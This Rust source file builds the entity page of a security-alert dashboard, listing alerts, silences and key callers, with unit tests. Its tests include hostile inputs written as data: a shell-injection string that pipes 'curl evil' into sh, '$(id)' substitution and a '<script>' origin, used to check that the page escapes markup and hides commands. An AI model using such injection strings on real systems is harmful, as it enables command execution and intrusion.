//! `/entity`: all that is known of one address, key, app, function, identity, origin, secret or gateway.
//!
//! Its alerts, the newest 100; who silences it; of a key its callers, the newest 100. What is not known
//! is said: an entity without alerts may still be named in the evidence of others.

use std::sync::Arc;

use askama::Template;
use axum::extract::{Query, State};
use axum::http::{HeaderMap, StatusCode};
use axum::response::Response;
use percent_encoding::{NON_ALPHANUMERIC, utf8_percent_encode};

use super::super::app::App;
use super::super::door::Viewer;
use super::super::filter::Filter;
use super::super::words::{When, grouped};
use super::row::Row;
use super::silences::{means, planned};
use super::{Frame, problem, render, store_problem};
use crate::access::Identity;
use crate::alerts::{self, Alert, AlertState, Class, Entity, EntityKind, Silence, sayable, written};
use crate::clock::Timestamp;
use crate::store::{AlertQuery, CallerLine, Reader, StoreError};

/// Alerts and callers on the page.
const MOST: usize = 100;
/// Silences that are looked through.
const SILENCES: usize = 1_000;
/// Letters of a value.
const MAX_VALUE: usize = 400;
/// Names of the same thing under other keys of the installation.
const MAX_LINKS: usize = 8;

struct Caller {
    address: String,
    /// The query string of its page.
    link: String,
    place: String,
    last: When,
    first: When,
    let_in: bool,
    uses: String,
    refused: String,
}

/// A silence that names it.
struct Muted {
    means: Vec<(&'static str, String)>,
    reason: String,
    by: String,
    /// From when on, if it has not begun.
    planned: Option<String>,
    ends: When,
}

#[derive(Template)]
#[template(path = "entity.html")]
struct EntityPage {
    frame: Frame,
    kind: &'static str,
    value: String,
    sayable: String,
    named: bool,
    linked: Vec<String>,
    /// As addresses and commands take it: `kind/value`.
    path: String,
    rows: Vec<Row>,
    full: bool,
    /// How many of those are not closed, and what the others were.
    tally: Vec<(&'static str, usize)>,
    first: Option<When>,
    last: Option<When>,
    muted: Vec<Muted>,
    callers: Vec<Caller>,
    /// The query string of a search for alerts that name it.
    search: String,
}

/// What the store knows of an entity.
#[derive(Default)]
struct Known {
    alerts: Vec<Alert>,
    silences: Vec<Silence>,
    callers: Vec<CallerLine>,
    linked: Vec<String>,
}

/// `GET /entity`: `kind` and `value`.
pub(in crate::dashboard) async fn page(
    State(app): State<Arc<App>>,
    Viewer(who): Viewer,
    Query(pairs): Query<Vec<(String, String)>>,
    headers: HeaderMap,
) -> Response {
    let asked = |name: &str| pairs.iter().find(|(key, _)| key == name).map(|(_, value)| value.trim());
    let value = asked("value").filter(|value| !value.is_empty() && value.chars().count() <= MAX_VALUE);
    let (Some(kind), Some(value)) = (asked("kind").and_then(EntityKind::named), value) else {
        return unnamed(who, &headers);
    };
    let (entity, about) = (Entity::new(kind, &*written(value)), Entity::new(kind, value));
    match app.readers.read(move |reader| Known::of(reader, &about)).await {
        Ok(known) => {
            let frame = Frame::new(entity.sayable(), "", Some(who), &headers);
            render(StatusCode::OK, &EntityPage::of(frame, &entity, &known, app.parts.clock.now()))
        }
        Err(error) => store_problem(&error, who, &headers),
    }
}

fn unnamed(who: Identity, headers: &HeaderMap) -> Response {
    let kinds: Vec<&str> = EntityKind::ALL.map(EntityKind::name).to_vec();
    let says = format!("Say what to show, such as /entity?kind=ip&value=203.0.113.7; kinds are {}.", kinds.join(", "));
    problem(StatusCode::BAD_REQUEST, "Which one?", says, Some(who), headers)
}

impl Known {
    fn of(reader: &Reader, entity: &Entity) -> Result<Self, StoreError> {
        let about = Some((Some(entity.kind), entity.value.to_string()));
        let about = alerts::Query { entity: about, ..alerts::Query::any() };
        let alerts = reader.alerts(&AlertQuery { about, after: None, limit: MOST + 1 })?;
        let names = |silence: &Silence| {
            let named = silence.matcher.entity.as_deref().unwrap_or_default();
            let value = named.strip_prefix(entity.kind.name()).and_then(|rest| rest.strip_prefix('/')).unwrap_or(named);
            value.eq_ignore_ascii_case(&entity.value)
        };
        let silences =
            reader.silences(false, SILENCES)?.into_iter().map(|(silence, _)| silence).filter(names).collect();
        let callers = match entity.kind {
            // Whoever has stolen a key chooses how many there are.
            EntityKind::Key => reader.newest_key_callers(&entity.value, MOST)?,
            _ => Vec::new(),
        };
        let links = reader.links(Some(&written(&entity.value)), MAX_LINKS)?;
        let linked = links.into_iter().flat_map(|link| [link.older, link.newer]);
        let linked = linked.filter(|name| *name != *entity.value).collect();
        Ok(Self { alerts, silences, callers, linked })
    }
}

impl EntityPage {
    fn of(frame: Frame, entity: &Entity, known: &Known, now: Timestamp) -> Self {
        let shown = &known.alerts[..known.alerts.len().min(MOST)];
        let muted = |silence: &Silence| Muted {
            means: means(&silence.matcher),
            reason: silence.reason.clone(),
            by: silence.by.clone(),
            planned: planned(silence, now),
            ends: When::new(silence.ends_at, now),
        };
        let value = entity.value.to_string();
        let sayable = sayable(&value).unwrap_or_else(|| value.clone());
        Self {
            frame,
            kind: entity.kind.name(),
            named: sayable != value,
            path: format!("{}/{value}", entity.kind.name()),
            search: Filter::all_that(alerts::Term::new("text", value.as_str())).address(),
            sayable,
            value,
            linked: known.linked.clone(),
            rows: shown.iter().map(|alert| Row::of(alert, &alert.entity.sayable(), &Filter::default(), now)).collect(),
            full: known.alerts.len() > MOST,
            tally: tally(shown),
            first: shown.iter().map(|alert| alert.first_seen).min().map(|at| When::new(at, now)),
            last: shown.iter().map(|alert| alert.last_seen).max().map(|at| When::new(at, now)),
            muted: known.silences.iter().map(muted).collect(),
            callers: known.callers.iter().map(|line| Caller::of(line, now)).collect(),
        }
    }

    /// Returns the commands that ask about it; none of a value that a shell or a question would take for more
    /// than a value, for it may be an attacker's.
    fn commands(&self) -> Vec<String> {
        let plain = |letter: char| letter.is_ascii_alphanumeric() || "._:/@+-".contains(letter);
        if !self.value.chars().all(plain) || self.value.starts_with('-') {
            return Vec::new();
        }
        let mut commands = vec![format!("gatewatch alerts list 'entity:{} state:all'", self.path)];
        if self.kind == EntityKind::Key.name() {
            commands.push(format!("gatewatch keys readiness {}", self.value));
        }
        commands
    }

    /// Returns the query string of its page's form for a silence.
    fn silence(&self) -> String {
        format!("entity={}", utf8_percent_encode(&self.path, NON_ALPHANUMERIC))
    }
}

/// Returns the query string of an entity's page.
pub(super) fn address(kind: EntityKind, value: &str) -> String {
    format!("kind={}&value={}", kind.name(), utf8_percent_encode(value, NON_ALPHANUMERIC))
}

/// Returns how many of these alerts are not closed, and what the others were.
fn tally(alerts: &[Alert]) -> Vec<(&'static str, usize)> {
    let count = |of: &dyn Fn(&Alert) -> bool| alerts.iter().filter(|alert| of(alert)).count();
    let judged = |class: Class| count(&|alert| alert.class() == Some(class));
    let closed = |alert: &Alert| alert.state == AlertState::Closed;
    [
        ("not closed", count(&|alert| !closed(alert))),
        ("true positives", judged(Class::TruePositive)),
        ("benign", judged(Class::Benign)),
        ("false positives", judged(Class::FalsePositive)),
        (
            "closed and not judged",
            count(&|alert| closed(alert) && alert.class().is_none_or(|class| class == Class::Undetermined)),
        ),
    ]
    .into_iter()
    .filter(|(_, many)| *many > 0)
    .collect()
}

impl Caller {
    fn of(line: &CallerLine, now: Timestamp) -> Self {
        let sum = |of: fn(&crate::store::KeyDay) -> u64| grouped(line.days.iter().map(of).sum());
        Self {
            address: line.caller.address.to_string(),
            link: address(EntityKind::Ip, &line.caller.address),
            place: line.caller.place.to_string(),
            last: When::new(line.last_seen, now),
            first: When::new(line.first_seen, now),
            let_in: line.last_accepted.is_some(),
            uses: sum(|day| day.used.into()),
            refused: sum(|day| day.refused.into()),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::super::samples;
    use super::*;

    fn shown(entity: &Entity, known: &Known) -> String {
        let frame = Frame::new(entity.sayable(), "", Some(Identity::local()), &HeaderMap::new());
        EntityPage::of(frame, entity, known, samples::NOW).render().unwrap()
    }

    #[test]
    fn an_entity_shows_its_alerts_and_how_they_ended() {
        let alert = samples::alert();
        let entity = alert.entity.clone();
        let html = shown(&entity, &Known { alerts: vec![alert.clone(), alert], ..Known::default() });
        for part in ["2 not closed", "One key used from many addresses", "gatewatch alerts list"] {
            assert!(html.contains(part), "{part} is missing in {html}");
        }
    }

    #[test]
    fn one_without_alerts_says_that_others_may_name_it_and_markup_in_it_is_text() {
        let html = shown(&Entity::new(EntityKind::Origin, "https://<script>.example"), &Known::default());
        assert!(html.contains("No alert is about it") && html.contains("q=%22https://%3Cscript"), "{html}");
        assert!(!html.contains("<script>.example"), "{html}");
    }

    #[test]
    fn no_command_is_shown_that_a_value_could_end() {
        let known = Known::default();
        for value in ["https://x';curl evil|sh;'", "$(id)", "a b", "--help"] {
            let html = shown(&Entity::new(EntityKind::Origin, value), &known);
            assert!(!html.contains("gatewatch alerts list"), "{html}");
        }
        assert!(shown(&Entity::new(EntityKind::Ip, "2001:db8::1"), &known).contains("entity:ip/2001:db8::1"));
    }
}
